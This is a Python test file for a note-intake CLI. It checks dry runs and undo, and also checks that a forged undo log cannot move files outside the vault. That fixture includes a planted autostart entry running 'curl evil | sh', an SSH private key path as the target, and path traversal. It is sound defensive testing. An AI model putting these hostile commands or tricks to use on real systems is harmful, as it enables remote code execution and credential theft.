"""`noteseek intake` end to end with the real bundled model, through the CLI adapter."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from click.testing import CliRunner

from noteseek.cli.main import cli

from .conftest import SAMPLE_VAULT


def test_cli_dry_run_json_then_run_and_undo(tmp_path: Path) -> None:
    vault = tmp_path / "vault"
    shutil.copytree(SAMPLE_VAULT, vault)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    held_out = sorted((vault / "howto").glob("*.md"))[0]
    shutil.move(held_out, inbox / held_out.name)
    (inbox / "stub.md").write_text("# Later\n\nTODO\n", encoding="utf-8")
    db = str(tmp_path / "index.db")
    runner = CliRunner()

    dry = runner.invoke(
        cli, ["intake", str(inbox), "--vault", str(vault), "--db", db, "--dry-run", "--json"]
    )
    assert dry.exit_code == 0, dry.output
    doc = json.loads(dry.output)
    items = {i["path"]: i for i in doc["items"]}
    assert set(items) == {held_out.name, "stub.md"}
    for item in items.values():
        assert {"path", "total", "scores", "decision", "domain", "runner_up"} <= set(item)
        assert set(item["scores"]) == {"relevance", "actionability", "depth", "authority"}
    assert items["stub.md"]["decision"] == "set_aside"
    assert "howto" in (items[held_out.name]["domain"], items[held_out.name]["runner_up"])
    assert sorted(p.name for p in inbox.iterdir()) == sorted(items)  # dry run moved nothing

    run = runner.invoke(cli, ["intake", str(inbox), "--vault", str(vault), "--db", db])
    assert run.exit_code == 0, run.output
    assert "set aside" in run.output and "--undo" in run.output
    assert not list(inbox.iterdir())
    run_id = run.output.split("(run ")[1].split(";")[0]

    undo = runner.invoke(cli, ["intake", "--undo", run_id, "--vault", str(vault), "--db", db])
    assert undo.exit_code == 0, undo.output
    assert sorted(p.name for p in inbox.iterdir()) == sorted(items)


def test_cli_needs_an_inbox_unless_undoing(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["intake", "--vault", str(tmp_path)])
    assert result.exit_code != 0
    assert "INBOX" in result.output


def test_undo_of_a_forged_log_moves_nothing_outside_the_vault(tmp_path: Path) -> None:
    """The log lives in the vault, which others sync into: its records are not trusted."""
    vault, home = tmp_path / "vault", tmp_path / "home"
    (vault / "_intake").mkdir(parents=True)
    (vault / "shared").mkdir()
    (home / ".ssh").mkdir(parents=True)
    (home / ".config" / "autostart").mkdir(parents=True)
    key = home / ".ssh" / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    planted = vault / "shared" / "notes.md"
    planted.write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    outside_note = home / "diary.md"
    outside_note.write_text("dear diary\n")
    run = "20260101-000000-abcd"
    records = [
        {"event": "run", "run": run, "inbox": str(home), "vault": str(vault)},
        # Undo would move the key into the synced vault ...
        {"event": "move", "phase": "done", "run": run, "path": "k.md",
         "src": str(vault / "shared" / "k.md"), "dst": str(key)},
        # ... or vault text to where a program runs it ...
        {"event": "move", "phase": "done", "run": run, "path": "evil.desktop",
         "src": str(home / ".config" / "autostart" / "evil.desktop"), "dst": str(planted)},
        # ... or take text out of a file outside the vault.
        {"event": "append", "phase": "done", "run": run, "dst": str(outside_note),
         "inserted": "dear diary\n", "offset": 0, "sha256": ""},
        {"event": "move", "phase": "done", "run": run, "path": "up.md",
         "src": str(home / "up.md"), "dst": str(vault / ".." / "home" / "diary.md")},
    ]  # fmt: skip
    log = vault / "_intake" / "log.jsonl"
    log.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")

    undo = CliRunner().invoke(
        cli, ["intake", "--undo", run, "--vault", str(vault), "--db", str(tmp_path / "i.db")]
    )
    assert undo.exit_code == 0, undo.output
    assert key.read_text() == "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    assert not (vault / "shared" / "k.md").exists()
    assert planted.exists() and not (home / ".config" / "autostart" / "evil.desktop").exists()
    assert outside_note.read_text() == "dear diary\n" and not (home / "up.md").exists()
    assert undo.output.count("the log was edited") == 4, undo.output
